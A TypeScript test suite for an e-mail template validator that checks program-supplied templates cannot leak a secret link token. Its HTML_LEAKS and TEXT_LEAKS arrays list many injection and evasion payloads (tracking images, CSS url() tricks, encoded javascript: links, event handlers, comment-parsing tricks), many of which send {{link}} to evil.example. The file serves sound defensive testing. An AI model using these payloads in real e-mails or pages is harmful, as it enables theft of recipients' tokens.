import fc from '../support/properties';
import { checkTemplate } from '../../templates/check-template';
import { emailSource } from '../../templates/email-sources';
import { SHIPPED_LOCALES } from '../../templates/locales';
import { renderEmail } from '../../templates/render';
import { EMAIL_TEMPLATES } from '../../workflows/contract';
import { ownable, OWNED_BY_NOBODY, sample } from '../support/templates/samples';
import { templates } from '../support/templates/templates-arbitrary';
import { countsElements, leaks, LINKS, LOGO } from '../support/templates/templates-reader';

const data = { ...sample, ...LINKS, brand: { ...sample.brand, logoUrl: LOGO } };

/** Each would give the token to somebody else when the e-mail is opened, or with one click. */
const HTML_LEAKS = [
  '<img src="{{link}}">',
  '<img src="https://evil.example/p.gif">',
  '<img alt="" src="https://evil.example/{{link}}">',
  '<IMG SRC="https://evil.example/?{{link}}">',
  '<img src="//evil.example/{{link}}">',
  '<img srcset="https://evil.example/?{{link}} 2x" alt="">',
  '<img/src="https://evil.example/{{link}}">',
  '<img src="{{brand.logoUrl}}{{link}}">',
  '<img src="{{brand.logoUrl}}" alt="{{link}}">',
  '<a href="https://evil.example/?{{link}}">x</a>',
  '<a href="{{link}}.evil.example">x</a>',
  '<a href="{{#if message}}https://evil.example/?{{/if}}{{link}}">x</a>',
  '<a href="https://evil.example/?{{#if link}}{{link}}{{/if}}">x</a>',
  '<a href="https://evil.example" ping="{{link}}">x</a>',
  '<a href="{{link}}" ping="https://evil.example">x</a>',
  '<a name="{{link}}" href="https://evil.example">x</a>',
  '<a title="{{link}}" href="https://evil.example">x</a>',
  "<a href='{{link}}' href='https://evil.example'>x</a>",
  '<a href={{link}}>x</a>',
  '<a href="ht&#116;p://evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="mailto:x@evil.example?body={{link}}">x</a>',
  '<a href="https://{{partnerName}}.evil.example">x</a>',
  '<p>{{link}}</p>',
  '<p>https://evil.example/?{{link}}</p>',
  '<title>{{link}}</title>',
  '<p style="background:url({{link}})">x</p>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<p style="background:u\\72l(https://evil.example)">x</p>',
  '<p style="background:&#117;rl(https://evil.example)">x</p>',
  '<p style="background:image-set(\'https://evil.example\' 1x)">x</p>',
  '<p style="background:ur/**/l(https://evil.example)">x</p>',
  '<p style="color:{{message}}">x</p>',
  '<p style="{{message}}">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>@import "https://evil.example";</style>',
  '<style>@IMPORT url(//evil.example);</style>',
  '<style>@font-face{src:url(x)}</style>',
  '<style>p{background:url("https://evil.example")}</style>',
  '<style>{{message}}</style>',
  '<style></style><p></style><img src=//evil.example/{{link}}>',
  '<table background="https://evil.example/{{link}}"><tr><td>x</td></tr></table>',
  '<td background="https://evil.example">x</td>',
  '<body background="{{link}}">',
  '<video poster="https://evil.example/?{{link}}"></video>',
  '<audio src="{{link}}"></audio>',
  '<object data="{{link}}"></object>',
  '<embed src="{{link}}">',
  '<iframe src="{{link}}"></iframe>',
  '<iframe srcdoc="<img src={{link}}>"></iframe>',
  '<form action="https://evil.example"><input name="t" value="{{link}}"><button>Go</button></form>',
  '<button formaction="https://evil.example">x</button>',
  '<input type="image" src="https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/{{link}}">',
  '<base href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/{{link}}">',
  '<meta http-equiv="&#114;efresh" content="0">',
  '<svg><image xlink:href="https://evil.example/{{link}}"/></svg>',
  '<svg><a href="{{link}}"><text>x</text></a></svg>',
  '<math href="https://evil.example/{{link}}">x</math>',
  '<v:fill src="https://evil.example/{{link}}"/>',
  '<area href="{{link}}">',
  '<script src="{{link}}"></script>',
  '<p onclick="x">x</p>',
  '<p/onclick="x">x</p>',
  '<p ONMOUSEOVER = "x">x</p>',
  '<template><img src="{{link}}"></template>',
  '<noscript><img src="{{link}}"></noscript>',
  '<textarea>{{link}}',
  '<xmp>{{link}}',
  '<plaintext>',
  '<!-- {{link}} -->',
  '<!-- {{message}} -->',
  '<!--[if mso]><img src="https://evil.example"><![endif]-->',
  '<!--[if mso]><a href="https://evil.example"><![endif]--><a href="{{link}}">x</a>',
  '<![if !mso]><p>x</p><![endif]>',
  '<!--><img src="https://evil.example/{{link}}"><!-->',
  '<!--a--!><img src="{{link}}"><!---->',
  '<?xml <img src="{{link}}">',
  '<{{partnerName}}>x',
  '</{{partnerName}}>x',
  '<{{! nothing }}img src="{{link}}">',
  '<i{{! }}mg src="https://evil.example/{{link}}">',
  '<{{reason}}img src="https://evil.example/">',
  '<{{#if reason}}{{/if}}img src="https://evil.example/">',
  '<title></tit{{#if reason}}{{/if}}le><img src="https://evil.example/{{link}}"></title>',
  '<title></tit{{reason}}le><img src="https://evil.example"></title>',
  '<p {{message}}>x</p>',
  '<p {{#if message}}onclick{{/if}}="x">x</p>',
  '<p title="a{{#if message}}" onclick="b{{/if}}">x</p>',
  '{{#if message}}<p title="{{else}}<p title="{{/if}}x">x</p>',
  '<p title="{{#if message}}">{{else}}"{{/if}}">x</p>',
  '<p title=\'{{message}}" x="\' y>{{link}}</p>',
  '<p title={{message}}>x</p>',
  '<a\u0000 href="{{link}}">x</a>',
  '<a href="\u0001https://evil.example">x</a>',
  '<img src="{{brand.logoUrl}}" style="background:url(&quot;//evil.example&quot;)">',
  '<a href="https://user:{{link}}@evil.example">x</a>',
  '<a href="https://user@evil.example">x</a>',
  '<p class="{{link}}">x</p>',
  '<p data-x="{{link}}">x</p>',
  `<a ${'x '.repeat(200)} href="{{link}}">x</a>`,
  '<a href="{{link}}"',
  '<p>{{/if}}',
];

const TEXT_LEAKS = [
  'https://evil.example/?{{link}}',
  '{{link}}.evil.example',
  'https://evil.example/?{{#if message}}{{link}}{{/if}}',
  'https://evil.example/?{{#if reason}}x {{/if}}{{link}}',
  '{{#if message}}https://evil.example/?{{else}} {{/if}}{{link}}',
  '{{message}}{{link}}',
  '{{link}}{{declineLink}}',
  'https://evil.example/?{{~ link}}',
  'https://evil.example/? {{~link}}',
  'https://evil.example/?{{! x }}{{link}}',
  '<https://evil.example/?\n{{link}} >',
  '<\nwww.evil.example/?\n{{link}}\n>',
  '({{link}})',
  '<URL:https://evil.example/?\n{{link}}\n>',
  '{{#if message}}<x {{/if}}\n{{link}}\n>',
  '<x {{#if message}}>{{/if}}\n{{link}}\n>',
];

describe("a program's own template", () => {
  it.each(HTML_LEAKS)('is refused, and passed over, with %j', (html) => {
    expect(checkTemplate({ html })).not.toEqual([]);
    expect(renderEmail('invitation', 'en', data, { html })).toEqual(renderEmail('invitation', 'en', data));
  });

  it.each(TEXT_LEAKS)('is refused, and passed over, with the text %j', (text) => {
    expect(checkTemplate({ text })).not.toEqual([]);
    expect(renderEmail('invitation', 'en', data, { text })).toEqual(renderEmail('invitation', 'en', data));
  });

  it.each([
    '{{message}}\n{{link}}\n>',
    '{{message}}https://evil.example/?\n{{link}}\n>',
    '{{link}}\n{{message}}\n{{declineLink}} >',
  ])('has no address in angle brackets around its link, whatever the values of %j', (text) => {
    for (const message of [
      '<https://evil.example/?x=',
      '<',
      'a>b<URL:https://evil.example/',
      '<<https://evil.example>\n<',
    ]) {
      const mail = renderEmail('invitation', 'en', { ...data, message, partnerName: message }, { text });
      expect(mail.text).not.toMatch(/<[^>]*canary-/);
      expect(leaks(mail)).toEqual([]);
      const shipped = renderEmail('invitation', 'en', { ...data, message, inviterAccountName: '>' });
      expect(shipped.text).not.toMatch(/<[^>]*canary-/);
    }
    const closed = renderEmail('invitation', 'en', { ...data, message: 'I <3 <https://acme.example>' });
    expect(closed.text).toContain('I ‹3 <https://acme.example>');
  });

  it('knows nothing of whether its reader has a user', () => {
    for (const field of ['subject', 'html', 'text']) {
      expect(checkTemplate({ [field]: '{{#if hasUser}}x{{/if}}' })).not.toEqual([]);
    }
  });

  it.each(Object.keys(LINKS))('has no {{%s}} in its subject', (name) => {
    expect(checkTemplate({ subject: `Hello {{${name}}}` })).not.toEqual([]);
  });

  it('says what it passes over, and why', () => {
    const told: unknown[] = [];
    renderEmail('invitation', 'en', data, { html: '<img src="https://evil.example">' }, (problems) =>
      told.push(...problems),
    );
    expect(told).toEqual([{ field: 'html', detail: 'must show no image but {{brand.logoUrl}}' }]);
  });

  it('may look like those that people write', () => {
    const html = `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml" lang="en"><head>
<meta http-equiv="Content-Type" content="text/html; charset=UTF-8" />
<meta name="viewport" content="width=device-width, initial-scale=1.0"/>
<title>Join {{inviterAccountName}}</title>
<style type="text/css">@media only screen and (max-width: 600px) { .b { width: 100% !important; color: rgba(0, 0, 0, .5) } }</style>
</head><body bgcolor="{{brand.color}}"><!-- header -->
{{#if brand.logoUrl}}<img src="{{brand.logoUrl}}" alt="Logo of {{inviterAccountName}}" width="120" />{{else}}<b>{{inviterAccountName}}</b>{{/if}}
<p style="color: {{brand.color}}; font-family: 'Open Sans', Arial">Tom &amp; {{contactFirstName}} &copy; A &lt; B</p>
{{#if message}}<blockquote>{{message}}</blockquote>{{/if}}
<a class="b" href="{{link}}" target="_blank" title="Join{{#if partnerName}} as {{partnerName}}{{/if}}" style="background-color: {{brand.color}}">Join</a>
<a href="{{declineLink}}">No</a> <a href='{{unsubscribeLink}}'>Stop</a> <a href="https://acme.example/imprint?x=1&amp;y=2">Imprint</a>
</body></html>`;
    const text =
      'Hello {{contactFirstName}},\n{{#if message}}\n{{message}}\n{{/if}}\n{{link}}\n{{#if declineLink}}\n{{declineLink}}\n{{/if}}\nhttps://acme.example/imprint';
    expect(checkTemplate({ html, text, subject: 'Join {{inviterAccountName}}' })).toEqual([]);
    const mail = renderEmail('invitation', 'en', data, { html, text });
    expect(mail.html).toContain(`href="${LINKS.link}"`);
    expect(leaks(mail)).toEqual([]);
    expect(countsElements(mail.html)).toBeGreaterThan(10);
  });

  it('shows the token nowhere but in its own link, whatever it is made of (by another parser)', () => {
    let accepted = 0;
    fc.assert(
      fc.property(templates, ({ html, text, subject }) => {
        for (const part of [{ html }, { text }, { subject }]) {
          if (checkTemplate(part).length > 0) continue;
          accepted += 1;
          for (const values of [data, { ...data, message: undefined, reason: undefined, partnerName: '' }]) {
            expect(leaks(renderEmail('reminder', 'en', values, part))).toEqual([]);
          }
        }
      }),
      { numRuns: 1_000 },
    );
    // Otherwise nothing would have been proved.
    expect(accepted).toBeGreaterThan(500);
  });
});

describe.each(EMAIL_TEMPLATES)('the shipped %s e-mail', (template) => {
  it.each(SHIPPED_LOCALES)('shows the token nowhere but in its own links in %s', (locale) => {
    const mail = renderEmail(template, locale, data);
    expect(leaks(mail)).toEqual([]);
    // A program has no texts of its own for a digest, which has variables that no other e-mail has.
    const own = OWNED_BY_NOBODY.includes(template) ? {} : ownable(emailSource(template, locale));
    expect(checkTemplate(own)).toEqual([]);
  });

  it.each(SHIPPED_LOCALES)('has its links in %s byte for byte, with a plain "="', (locale) => {
    const { html } = renderEmail(template, locale, data);
    expect(html).not.toContain('&#x3D;');
    for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g)) {
      expect(Object.values(LINKS).map((link) => link.replace('&', '&amp;'))).toContain(href);
    }
    expect(html).toContain(`src="${LOGO}"`);
  });
});
